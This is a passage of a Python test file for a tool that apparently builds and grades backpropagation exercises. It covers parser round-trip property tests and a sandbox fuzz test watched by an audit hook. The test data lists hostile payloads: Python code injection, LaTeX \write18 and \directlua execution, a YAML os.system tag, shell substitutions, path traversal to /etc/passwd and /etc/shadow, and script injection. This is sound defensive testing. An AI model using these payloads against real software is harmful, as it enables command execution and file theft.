    tex = "\\documentclass{article}\\usepackage{fontspec}\\begin{document}\n" + body + "\n\\end{document}\n"
    text = _pdf_text(compile_pdf(tex, tmp_path / "e.pdf"))
    flat = " ".join(text.split())
    for i, sample in enumerate(samples):
        assert f"S{i}: {' '.join(sample.split())}" in flat.replace("’", "'").replace("‘", "`"), (sample, flat)


# --------------------------------------------------------------------------- round trips


def _expressions():
    import sympy as sp

    from derive.core.calculus import Indicator, leaky_relu, relu, sigmoid

    x, theta, h, alpha = sp.symbols("x theta_11 h_1 alpha")
    leaves = st.sampled_from([x, theta, h, alpha, sp.Integer(2), sp.Integer(3), sp.Rational(1, 2), sp.Integer(-1)])

    def tame(build):  # 0**-1 and log(0) are zoo, and a comparison with zoo raises: keep every step real
        def made(arg):
            try:
                e = build(arg)
            except TypeError:
                return x
            return x if e.has(sp.I, sp.zoo, sp.oo, sp.nan) else e
        return made

    def grow(inner):
        return st.one_of(
            st.tuples(inner, inner).map(tame(lambda ab: ab[0] + ab[1])),
            st.tuples(inner, inner).map(tame(lambda ab: ab[0] * ab[1])),
            st.tuples(inner, st.sampled_from([-2, -1, 2, 3])).map(tame(lambda ab: ab[0] ** ab[1])),
            inner.map(tame(sp.exp)), inner.map(tame(sp.log)), inner.map(tame(sp.tanh)), inner.map(tame(relu)),
            inner.map(tame(sigmoid)),
            inner.map(tame(lambda a: Indicator(sp.Gt(a, 0)))), inner.map(tame(lambda a: Indicator(sp.Le(a, 0)))),
            inner.map(tame(lambda a: leaky_relu(a, alpha))),
        )

    real = st.recursive(leaves, grow, max_leaves=8).filter(  # the JSON vocabulary is real: no I, pi, zoo, nan
        lambda e: not e.has(sp.I, sp.pi, sp.zoo, sp.oo, sp.nan, sp.E))
    return real, {str(s): s for s in (x, theta, h, alpha)}


EXPRESSIONS, NAMES = _expressions()


@settings(max_examples=200, deadline=2000, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(EXPRESSIONS)
def test_the_answer_grammar_reads_back_what_the_json_printer_writes(expr):
    from derive.core.parse import parse_math
    from derive.render.printing import ascii

    assert parse_math(ascii(expr), names=NAMES) == expr, ascii(expr)


@settings(max_examples=200, deadline=2000, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(EXPRESSIONS)
def test_the_answer_grammar_reads_back_the_expected_answer_as_feedback_shows_it(expr):
    # feedback shows the expected answer as a student types it (x^2, I[z > 0]), never Python's ** or I(…)
    from derive.core.parse import parse_math
    from derive.render.printing import answer_text

    text = answer_text(expr)
    assert parse_math(text, names=NAMES) == expr, text
    assert "**" not in text and "I(" not in text, text


@pytest.mark.parametrize("spec", [p.name for p in network_specs()])
def test_every_json_expression_reads_back_to_the_derivation(spec):
    import sympy as sp

    from derive.core.parse import parse_math
    from derive.pipeline import derive_spec
    from derive.render.printing import ascii

    result = derive_spec(ROOT / "specs" / spec)
    derivation = result.outcome.derivation
    net = derivation.network
    exprs = [e for _, e in net.forward] + [g.expr for g in derivation.backward] + [p.value for p in derivation.derivatives]
    for expr in exprs:
        plain = expr.xreplace({s: sp.Symbol(s.name) for s in expr.free_symbols})
        names = {s.name: sp.Symbol(s.name) for s in expr.free_symbols}
        assert parse_math(ascii(expr), names=names) == plain, ascii(expr)


# --------------------------------------------------------------------------- 500 hostile inputs, watched

import random  # noqa: E402
from contextlib import contextmanager  # noqa: E402

CANARY = Path("/tmp") / f"derive-canary-{os.getpid()}"
INJECTIONS = [
    "__import__('os').system('touch {c}')", "eval(\"__import__('os').system('touch {c}')\")",
    "exec('import os; os.system(\"touch {c}\")')", "open('{c}', 'w').write('x')", "lambda: 1",
    "().__class__.__bases__[0].__subclasses__()", "globals()['__builtins__']", "x.__class__", "x; import os",
    "`touch {c}`", "$(touch {c})", "x | touch {c}", "\\input{{/etc/passwd}}", "\\write18{{touch {c}}}",
    "\\immediate\\write18{{touch {c}}}", "\\directlua{{os.execute('touch {c}')}}", "\\def\\x{{\\x}}\\x",
    "\\catcode`\\@=11", "\\csname foo\\endcsname", "\\include{{/etc/shadow}}", "\\openin1=/etc/passwd",
    "{{{{{{{{", "sympify('x')", "Symbol('x')", "Integer(10)**Integer(10)**10", "x**x**x**x**x", "9**9**9**9",
    "10**10**10", "2**100000", "x" * 6000, "(" * 101 + "x" + ")" * 101, "[" * 120 + "x" + "]" * 120,
    "\\frac{" * 60 + "x" + "}{2}" * 60, "exp(" * 7 + "x" + ")" * 7, "tanh(" * 30 + "x" + ")" * 30,
    "x" + "^x" * 200, "1e99999", "0.0000000000000000000000000000000000001", "1/0", "0/0", "log(0)", "x/(x-x)",
    "I[" * 50 + "x>0" + "]" * 50, "max(" + ",".join(["x"] * 3000) + ")", "\x00", "\u202ex", "x\u200b", "𝑥",
    "θ_11", "\\theta_{" + "1" * 500 + "}", "h_" + "9" * 300, "%", "#", "&", "~", "\\\\", "\\", "\\\\\\",
]


def _hostile_answers() -> list[str]:
    rng = random.Random(12)
    base = "(phi_1*I[u_1>0]*psi_11 + phi_2*I[u_2>0]*psi_12)*I[z_1>0]*x"
    out = [s.replace("{c}", str(CANARY)).replace("{{", "{").replace("}}", "}") for s in INJECTIONS]
    alphabet = list("()[]{}+-*/^_.,|<>=!' \\") + ["\\frac", "\\left(", "I[", "**", "^T", "⊙", "sigma(", "\x1b"]
    while len(out) < 300:
        text = list(base)
        for _ in range(rng.randint(1, 6)):
            at = rng.randrange(len(text) + 1)
            if rng.random() < 0.5 and text:
                del text[min(at, len(text) - 1)]
            else:
                text.insert(at, rng.choice(alphabet))
        out.append("".join(text))
    return out


def _hostile_specs() -> list[str]:
    rng = random.Random(34)
    base = SPEC.read_text(encoding="utf-8")
    out = [
        "kind: network\nlayers: " + "[" * 200 + "]" * 200, "!!python/object/apply:os.system ['touch {c}']",
        "kind: !!python/name:os.system network", "a: &a [*a]", "a: &a x\nb: *a", "kind: network\nunits: " + "9" * 5000,
        "kind: network\ntitle: !!binary aGVsbG8=", "kind: network\ntitle: !!timestamp 2001-12-14",
        "kind: network\ntitle: \"\\ud800\"", "kind: network\ntitle: \"\\e[2J\"", "kind: graph\nnodes: {f: x^x^x}",
        "kind: graph\nnodes: {f: \"__import__('os')\"}\noutput: f", "kind: network\nlayers: [{units: 1e9}]",
        "kind: network\ninput: {name: x, size: 100000}", "kind: network\nlayers: [" + "{units: 1}," * 500 + "]",
        "kind: mlp\nsections: [" + "x," * 1000 + "]", "kind: composition\nK: 99999999",
        "kind: network\n" + "x: 1\n" * 10000, "\ufeffkind: network", "kind: network\r\nlayers: []\r\n",
        "%YAML 9.9\n---\nkind: network", "--- a\n--- b", "kind: [network]", "kind: {a: b}", "kind: 3",
        "kind: network\nlayers:\n  - {units: 1, activation: leaky_relu, alpha: .nan, params: t}",
        "kind: network\nlayers:\n  - {units: 1, activation: leaky_relu, alpha: -.inf, params: t}",
    ]
    out = [s.replace("{c}", str(CANARY)) for s in out]
    lines = base.splitlines()
    while len(out) < 150:
        mutated = list(lines)
        for _ in range(rng.randint(1, 3)):
            i = rng.randrange(len(mutated))
            action = rng.random()
            if action < 0.3:
                del mutated[i]
            elif action < 0.6:
                mutated.insert(i, mutated[rng.randrange(len(mutated))])
            else:
                line = mutated[i]
                at = rng.randrange(len(line) + 1)
                mutated[i] = line[:at] + rng.choice(["[", "]", "{", ":", " ", "-", "!!int ", "*", "&", "'", "9" * 40,
                                                     "relu6", "units: 0", "\t"]) + line[at:]
        out.append("\n".join(mutated) + "\n")
    return out


TITLES = [
    "\\input{/etc/passwd}", "\\write18{touch /tmp/x}", "\\directlua{os.exit(1)}", "\\def\\x{\\x}\\x", "$\\x$",
    "$$", "<script>alert(1)</script>", "# heading", "*em* **strong** `code`", "[link](javascript:alert(1))",
    "![img](file:///etc/passwd)", "a--b c---d ,,e,, <<f>>", "&amp; &#0; &lt;", "%s %(x)s {x} {{x}}", "\\\\\\",
    "}{", "{", "}", "^_^", "~~~", "| a | b |", "> quote", "1. list", "---", "<!-- c -->", "\\\\begin{document}",
    "x" * 200, "x" * 201, "😀", "中文", "עברית", "\u202egnp.exe", "a\u200bb", "Ω≤∑→€", "„tak” «да»", "''``",
]


def _hostile_courses(folder: Path) -> list[Path]:
    (folder / "inside.yaml").write_text(TINY.format(title="in"), encoding="utf-8")
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir()
    (outside / "secret.yaml").write_text(TINY.format(title="SECRET"), encoding="utf-8")
    (folder / "out-link.yaml").symlink_to(outside / "secret.yaml")
    (folder / "loop.yaml").symlink_to(folder / "loop.yaml")
    chapters = ["/etc/passwd", "/etc/shadow", "../x.yaml", f"../{outside.name}/secret.yaml", str(outside / "secret.yaml"),
                "out-link.yaml", "loop.yaml", "inside.yaml/..", ".", "", " ", "\\x00", "~/x.yaml", "$HOME/x.yaml",
                "inside.yml", "inside.yaml/" + "../" * 30 + "etc/passwd", "a" * 5000 + ".yaml", "/dev/zero", "/proc/self/environ",
                "course.yaml", "inside.yaml\nkind: network", "C:\\\\x.yaml", "file:///etc/passwd", "inside"]
    paths = []
    for i, chapter in enumerate(chapters):
        for form in (json.dumps(chapter), f"{{spec: {json.dumps(chapter)}, title: {{en: t}}}}"):
            path = folder / f"course{len(paths)}.yaml"
            path.write_text(f"kind: course\ntitle: C\nchapters:\n  - {form}\n", encoding="utf-8")
            paths.append(path)
    return paths


@contextmanager
def watched(allowed: list[Path]):
    """Audit every process start, code execution and file opening; yield the list of violations."""
    roots = [str(p) for p in allowed] + [sys.prefix, sys.base_prefix, str(ROOT), "/usr/lib", "/usr/share",
                                         "/dev/null", "/dev/urandom", "/proc/self", "/etc/localtime", "/tmp/pytest-of-"]
    violations: list[str] = []
    state = _AUDIT_STATE

    def hook(event, args):
        if not state["on"]:
            return
        if event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork",
                     "os.forkpty", "ctypes.dlopen", "socket.connect"):
            violations.append(f"{event}: {args[:2]}")
        elif event == "exec":
            code = args[0]
            name = getattr(code, "co_filename", "")
            if not (name.startswith("<lambdifygenerated") or name.endswith(".py") or name == "<string>"):
                violations.append(f"exec of {name}")
        elif event == "open" and args and isinstance(args[0], (str, bytes, os.PathLike)):
            path = os.path.abspath(os.fsdecode(args[0]))
            if not any(path.startswith(r) for r in roots):
                violations.append(f"open {path}")

    if not state["installed"]:
        sys.addaudithook(lambda event, args: state["hook"](event, args))
        state["installed"] = True
    state["hook"], state["on"] = hook, True
    try:
        yield violations
    finally:
        state["on"] = False


_AUDIT_STATE = {"installed": False, "on": False, "hook": lambda event, args: None}


def _timed(results: list, kind: str, fn, item) -> None:
    """Run fn(item): derive's own errors are fine; anything else is a traceback the user would see."""
    from derive.errors import DeriveError
    from derive.core.parse import ParseError

    started = time.process_time()
    try:
        fn(item)
        outcome = "ok"
    except (DeriveError, ParseError):
        outcome = "refused"
    except Exception as exc:  # pragma: no cover - a failure of the test
        outcome = f"TRACEBACK {type(exc).__name__}: {exc}"
    results.append((kind, repr(item)[:80], outcome, time.process_time() - started))


def test_five_hundred_hostile_inputs_no_traceback_no_execution(tmp_path):
    import resource

    from derive.grading.check import Engine
    from derive.render.document import md_escape
    from derive.pipeline import kind_of
    from derive.render.tex import escape
    from derive.core.yamlload import load_file, load_text

    CANARY.unlink(missing_ok=True)
    engine = Engine(str(SPEC))
    grader = engine.grader(None)[0]
    answers, specs, titles = _hostile_answers(), _hostile_specs(), TITLES
    courses = _hostile_courses(tmp_path)
    results: list = []

    def answer(text):
        verdict = grader.check("theta_11", text)
        assert verdict.verdict in ("correct", "incorrect", "invalid", "missing")
        if verdict.verdict == "invalid":
            assert verdict.findings

    def spec(text):
        doc = load_text(text, "hostile.yaml")
        kind, module = kind_of(doc)
        if kind != "course":
            module.parse(doc)

    def course(path):
        doc = load_file(path)
        kind_of(doc)[1].parse(doc)

    def title(text):
        doc = load_text(f"title: {json.dumps(text)}", "t.yaml")
        for value in doc.title().values():
            assert "\\" not in escape(value).replace("\\kern0pt{}", "").replace("\\textbackslash{}", "").replace(
                "\\textless{}", "").replace("\\textgreater{}", "").replace("\\textasciitilde{}", "").replace(
                "\\textasciicircum{}", "").replace("\\textbar{}", "").replace("\\textquotedbl{}", "").replace(
                "\\textasciigrave{}", "").translate({ord(c): None for c in "{}$&#%_"}).replace("\\", "")
            assert "\n" not in md_escape(value)

    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with watched([tmp_path]) as violations:
        for text in answers:
            _timed(results, "answer", answer, text)
        for text in specs:
            _timed(results, "spec", spec, text)
        for path in courses:
            _timed(results, "course", course, path)
        for text in titles:
            _timed(results, "title", title, text)
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory
    assert len(results) >= 500
    assert [r for r in results if r[2].startswith("TRACEBACK")] == []
    assert violations == []
    assert not CANARY.exists()
    assert max(r[3] for r in results) <= 2.0, max(results, key=lambda r: r[3])
    assert grown < 500_000  # kB
    refused = {kind: sum(r[2] == "refused" for r in results if r[0] == kind) for kind in ("spec", "course", "title")}
    assert refused["course"] == len(courses) and refused["spec"] > 100 and refused["title"] >= 4


def test_the_watcher_sees_what_it_must_forbid(tmp_path):
    with watched([tmp_path]) as violations:
        (tmp_path / "fine.txt").write_text("ok")
        open("/etc/hostname", "rb").close() if os.path.exists("/etc/hostname") else open("/etc/passwd", "rb").close()
        subprocess.run(["true"])
        exec(compile("1 + 1", "<student>", "eval"))
    assert any(v.startswith("open /etc/") for v in violations)
    assert any(v.startswith("subprocess.Popen") for v in violations)
    assert "exec of <student>" in violations
    assert not any("fine.txt" in v for v in violations)


def test_a_blocked_item_is_stopped_too(monkeypatch):
    import derive.core.bounded as bounded

    monkeypatch.setattr(bounded, "WALL_EXTRA_SECONDS", 1)

    def work(x):
        if x == "blocked":
            time.sleep(600)
        return x

    out = bounded.map_bounded(work, ["a", "blocked", "b"], jobs=2, limits=bounded.Limits(1, 2**30))
    assert [o.value for o in out] == ["a", None, "b"] and "without progress" in out[1].error


def _comms(marker: str) -> list[str]:
    out = []
    for pid in _descendants_with(marker):
        try:
            out.append(Path(f"/proc/{pid}/comm").read_text().strip())
        except OSError:
            pass
    return out


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
def test_a_killed_pdf_build_leaves_no_latex_behind(tmp_path):
    _tool("lualatex")
    marker = uuid.uuid4().hex
    env = dict(os.environ, DERIVE_ORPHAN_TEST=marker)
    proc = subprocess.Popen([sys.executable, "-m", "derive", "build", str(ROOT / "specs" / "mlp-backprop.yaml"),
                             "--format", "pdf", "--lang", "all", "--out", str(tmp_path / "out")],
                            env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while "lualatex" not in _comms(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert "lualatex" in _comms(marker)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 10
    while _descendants_with(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _comms(marker) == []


def test_a_runaway_spec_in_a_build_is_that_jobs_error_and_the_rest_is_built(tmp_path):
    (tmp_path / "tower.yaml").write_text(X_TOWER, encoding="utf-8")
    (tmp_path / "good.yaml").write_text(TINY.format(title="good"), encoding="utf-8")
    env = dict(os.environ, DERIVE_ITEM_CPU_SECONDS="2")
    result = subprocess.run([sys.executable, "-m", "derive", "build", str(tmp_path), "--format", "json,md",
                             "--lang", "en", "--out", str(tmp_path / "out")], capture_output=True, text=True,
                            env=env, cwd=ROOT, timeout=300)
    _no_traceback(result)
    assert result.returncode == 2
    assert (tmp_path / "out" / "en" / "good.json").is_file() and (tmp_path / "out" / "en" / "good.md").is_file()
    assert "tower.json: it needed more than 2 s of CPU time" in result.stderr, result.stderr
    assert "2 built" in result.stderr and "2 failed" in result.stderr


@pytest.mark.parametrize("text", ["kind: network\n" + "".join(f"k{i}: {i}\n" for i in range(60_000)),
                                  "a: [" + "1," * 400_000 + "]\n", "a: {" + "k: 1, " * 100_000 + "}\n"])
def test_a_megabyte_of_tiny_values_is_refused_within_a_second(text):
    started = time.process_time()
    assert "more than 20,000 values" in _refused(text).show()
    assert time.process_time() - started < 1.0


def test_answers_checked_from_a_server_thread_are_still_timed(monkeypatch):
    """A web server calls check_answers from a worker thread; the child it forks runs the check on its main
    thread, so the per-answer CPU timer works there (it cannot be set on a thread that is not the main one)."""
    import threading

    import derive.grading.grader as grading
    from derive.grading.check import check_answers

    monkeypatch.setattr(grading, "TIME_LIMIT", 1e-6)
    out = []
    slow = " + ".join(f"tanh({i}*x*phi_1)" for i in range(1, 200))  # well over one tick of the CPU-time clock
    worker = threading.Thread(target=lambda: out.append(check_answers(str(SPEC), {"theta_11": slow})))
    worker.start()
    worker.join()
    verdict = next(a for a in out[0]["answers"] if a["key"] == "theta_11")
    assert verdict["verdict"] == "invalid" and "could not be checked within" in verdict["feedback"]


def test_a_long_running_command_is_not_put_under_a_cpu_budget(monkeypatch):
    import click

    from derive import cli

    seen = []

    @click.command("serve")
    def serve():
        cli.run(lambda: seen.append(os.getpid()))

    @click.command("render")
    def render():
        cli.run(lambda: seen.append(os.getpid()))

    from click.testing import CliRunner

    CliRunner().invoke(serve, [])
    CliRunner().invoke(render, [])
    assert seen[0] == os.getpid()  # serve ran here: a server bounds each request itself
    assert len(seen) == 1  # render ran in a bounded child (its append happened there)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
def test_a_child_asks_to_die_with_its_parent():
    """die_with_parent finds prctl without ctypes.util: the child's parent-death signal is then SIGKILL."""
    code = ("import ctypes, signal, sys\n"
            "from derive.core.bounded import die_with_parent\n"
            "die_with_parent()\n"
            "sig = ctypes.c_int(0)\n"
            "ctypes.CDLL(None).prctl(2, ctypes.byref(sig), 0, 0, 0)  # PR_GET_PDEATHSIG\n"
            "print(sig.value == signal.SIGKILL, 'ctypes.util' in sys.modules)\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert out.stdout.split() == ["True", "False"], out.stderr
